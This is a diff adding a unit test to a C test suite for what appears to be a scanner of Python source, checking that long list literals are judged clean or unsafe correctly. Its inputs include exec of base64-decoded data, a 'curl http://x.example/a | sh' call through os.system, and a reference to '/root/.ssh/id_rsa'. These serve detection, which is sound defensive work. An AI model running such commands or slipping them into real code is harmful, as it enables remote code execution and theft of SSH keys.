@@ -349,6 +349,45 @@ static const struct {
 	{ "def f(n): return f(n - 1)\nf(3)\ng = lambda: g()\ng()\n", NULL, "GH-PY-0025" },
 };
 
+/* Tables of any length are read to their end; what is taken out of one may be anything. */
+static void long_tables(void **state)
+{
+	(void)state;
+	static const struct {
+		const char *what, *row, *behind;
+		enum gh_verdict least, most;
+	} rows[] = {
+		{ "of tuples", "    (1, -2.5, 'abc', None),\n", "]\n", GH_CLEAN, GH_CLEAN },
+		{ "nested", "    [0x1f, [1, (2, 3)], {'a': 1}, 'a' 'b', 1+2j],\n", "]\nfor x in T:\n    print(x)\n",
+		  GH_CLEAN, GH_CLEAN },
+		{ "code out of it", "    'abcd',\n", "]\nimport base64\nexec(base64.b64decode(T[-1]))\n", GH_UNSAFE,
+		  GH_UNSAFE },
+		{ "bytes of code", "    101,\n", "]\nexec(bytes(T))\n", GH_UNSAFE, GH_UNSAFE },
+		{ "names out of it", "    'abcd',\n", "]\nimport os\ngetattr(os, T[150000])('id')\n", GH_UNSAFE,
+		  GH_UNSAFE },
+		{ "a call at its end", "    1,\n", "    __import__('os').system('curl http://x.example/a | sh'),\n]\n",
+		  GH_UNSAFE, GH_UNSAFE },
+		{ "a place at its end", "    'abcd',\n", "    '/root/.ssh/id_rsa',\n]\n", GH_REVIEW, GH_REVIEW },
+	};
+	enum { ROWS_IN = 200000 };
+	for (size_t i = 0; i < GH_ROWS(rows); i++) {
+		size_t n = strlen(rows[i].row), at = 0;
+		char *text = malloc(n * ROWS_IN + 300);
+		assert_non_null(text);
+		memcpy(text, "T = [\n", 6);
+		at = 6;
+		for (size_t k = 0; k < ROWS_IN; k++, at += n)
+			memcpy(text + at, rows[i].row, n);
+		size_t behind = strlen(rows[i].behind);
+		memcpy(text + at, rows[i].behind, behind);
+		struct said s = judged((struct gh_span){ (const uint8_t *)text, at + behind }, GH_PYCODE_SOURCE);
+		if (s.worst < rows[i].least || s.worst > rows[i].most)
+			fail_msg("%s: %d\n%s", rows[i].what, (int)s.worst, gh_buf_cstr(&s.log));
+		gh_buf_free(&s.log);
+		free(text);
+	}
+}
+
 static void rules_by_example(void **state)
 {
 	(void)state;
@@ -584,6 +623,7 @@ int main(void)
 		cmocka_unit_test(identifiers),
 		cmocka_unit_test(what_attackers_write),
 		cmocka_unit_test(what_repositories_hold),
+		cmocka_unit_test(long_tables),
 		cmocka_unit_test(rules_by_example),
 		cmocka_unit_test(notebooks),
 		cmocka_unit_test(limits),
